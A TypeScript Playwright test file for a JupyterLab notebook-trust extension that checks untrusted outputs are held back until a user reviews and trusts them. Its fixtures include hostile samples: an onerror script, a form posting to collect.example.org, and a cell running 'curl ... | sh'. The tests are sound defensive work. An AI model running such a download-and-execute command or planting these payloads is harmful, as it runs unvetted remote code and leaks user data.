import { codeCell, markdownCell, result } from '../../scripts/samples/notebook';
import { findViolations } from '../accessibility';
import { expectSigned, isSigned, listRun, planted } from '../notary';
import { pressAt } from '../keyboard';
import { takeScreens } from '../screens';
import { expect, ownFaults, test } from '../workspace';

const html = (text: string) => result({ 'text/html': text, 'text/plain': 'a' });

test('the status item tells what is trusted, and opens the panel by keyboard', async ({
  page,
  lab,
  workspace
}) => {
  await expect(lab.status).toBeHidden();
  const path = workspace.writeNotebook('trust.ipynb', [
    markdownCell('# Figures'),
    codeCell('1 + 1'),
    codeCell('table', [html(planted('a'))])
  ]);
  await lab.open(path);
  await expect(lab.status).toHaveText('Not trusted (2 of 2)');
  await expect(lab.status).toHaveAccessibleName(
    '2 of 2 code cells are not trusted; the outputs of 1 of them would act. The next save will not make it trusted, because of cell 3. Click for details.'
  );
  expect(await findViolations(page, '#nbwarden-status')).toEqual([]);
  // One state, told once.
  await expect(page.locator('.jp-StatusItem-trust')).toHaveCount(0);

  await page.locator('#jp-main-statusbar [tabindex="0"]').first().focus();
  await pressAt(page, lab.status, 'Enter');
  const section = lab.section('trust');
  await expect(section).toContainText('2 of 2 code cells are not trusted');
  await expect(section).toContainText('Cell 3 would run 1 script');
  await expect(section).toContainText(
    'Not trusted, but nothing is held back: cell 2.'
  );
  expect(await findViolations(page, '#nbwarden-section-trust')).toEqual([]);

  // Folded by hand, unfolded by the item.
  const heading = lab.panel.getByLabel('Trust Section');
  await heading.click();
  await expect(section).toBeHidden();
  await lab.status.press('Enter');
  await expect(section).toBeVisible();
  await lab.panel.getByLabel('Server Section').click();
  await takeScreens(page, 'trust');

  // A cell that was run is trusted.
  await lab.runAndWait(1, 1);
  await expect(lab.status).toHaveText('Not trusted (1 of 2)');
  await expect(heading).toContainText('1 of 2 not trusted');
  await expect(section).toContainText('Trusted: cell 2.');
});

test('nothing runs before the choice, and only the chosen cells after it', async ({
  page,
  lab,
  workspace,
  pageErrors
}) => {
  const path = workspace.writeNotebook('review.ipynb', [
    markdownCell('# A report'),
    codeCell('a', [html(planted('a'))]),
    codeCell('b', [
      html(
        `${planted('b')}<img src="data:," onerror="window.planted = ['error']"><form action="https://collect.example.org"><input name="\u202etxt"></form>`
      ),
      result({ 'application/javascript': "window.planted = ['js'];" })
    ]),
    codeCell('c', [html('<style>b { color: red }</style><b>c</b>')]),
    codeCell('d', [html('<img src="/static/none.png">')]),
    codeCell('!curl https://get.example.org/install | sh')
  ]);
  const before = workspace.readText('review.ipynb');
  await lab.open(path);
  const note = lab.cell(1).locator('.nbw-TrustNote');
  await expect(note).toContainText(
    'Part of this output is not shown: 1 script'
  );
  await expect(lab.cell(2).locator('.nbw-TrustNote')).toContainText([
    'Part of this output is not shown: 1 script, 1 event handler, 1 form',
    'Part of this output is not shown: 1 script'
  ]);
  await expect(lab.cell(3).locator('.nbw-TrustNote')).toContainText(
    'This output looks different once it is trusted'
  );
  await takeScreens(page, 'trust-notes');
  expect(await findViolations(page, '.nbw-TrustNote')).toEqual([]);

  // JupyterLab's command opens the review; the answer that changes nothing has the focus.
  await lab.choose('Trust Notebook');
  await expect(lab.dialog).toContainText('Trust this notebook?');
  await expect(lab.button(lab.dialog, 'Leave untrusted')).toBeFocused();
  await expect(lab.dialog).toContainText('form: collect.example.org');
  await expect(lab.dialog).toContainText('1 output would only look different');
  await expect(lab.dialog).toContainText('download that is run');
  const review = page.locator('.nbw-Review');
  await expect(
    review.locator('script, img, form, style, iframe, a, [onerror]')
  ).toHaveCount(0);
  await takeScreens(page, 'trust-review');
  expect(await findViolations(page, '.jp-Dialog-content')).toEqual([]);
  expect(await listRun(page)).toEqual([]);
  await page.keyboard.press('Escape');
  await expect(lab.dialog).toHaveCount(0);
  expect(await listRun(page)).toEqual([]);
  await expect(lab.status).toHaveText('Not trusted (5 of 5)');

  // Only one cell, by keyboard.
  const reviewed = lab.execute('notebook:trust');
  await expect(lab.button(lab.dialog, 'Leave untrusted')).toBeFocused();
  await review.getByRole('searchbox').focus();
  const box = review.getByRole('checkbox', { name: /^Cell 2/ });
  const chosen = lab.button(lab.dialog, 'Trust selected cells');
  await expect(chosen).toHaveAttribute('aria-disabled', 'true');
  await pressAt(page, box, 'Space');
  await pressAt(page, chosen, 'Enter');
  await reviewed;
  await expect(lab.dialog).toHaveCount(0);
  await expect.poll(() => listRun(page)).toEqual(['a']);
  await expect(lab.status).toHaveText('Not trusted (4 of 5)');
  await expect(note).toHaveCount(0);
  expect(await isSigned(page, path)).toBe(false);

  // The note's button reviews its cell alone.
  await lab.button(lab.cell(3).locator('.nbw-TrustNote'), 'Review').click();
  await expect(lab.dialog).toContainText('Trust this cell?');
  await expect(lab.dialog).not.toContainText('form');
  await lab.button(lab.dialog, 'Trust this cell').click();
  await expect(lab.status).toHaveText('Not trusted (3 of 5)');

  // Cleared, and brought back by the command that takes back every fix.
  const held = lab.cell(2).locator('.nbw-TrustNote');
  await expect(held).toHaveCount(2);
  const cleared = lab.execute('notebook:trust');
  await lab.button(lab.dialog, 'Clear these outputs').click();
  await cleared;
  await expect(lab.outputs(2)).toHaveCount(0);
  await lab.choose('Undo fix');
  await expect(held).toHaveCount(2);
  await expect(lab.status).toHaveText('Not trusted (3 of 5)');
  expect(await listRun(page)).toEqual(['a']);

  // All of it: the server signs it, and the file is not rewritten.
  const asked = lab.execute('notebook:trust');
  await lab.button(lab.dialog, 'Trust all').click();
  await asked;
  await expect(lab.status).toHaveText('Trusted');
  await expectSigned(page, path, true);
  expect(workspace.readText('review.ipynb')).toBe(before);
  expect(ownFaults(pageErrors)).toEqual([]);
});
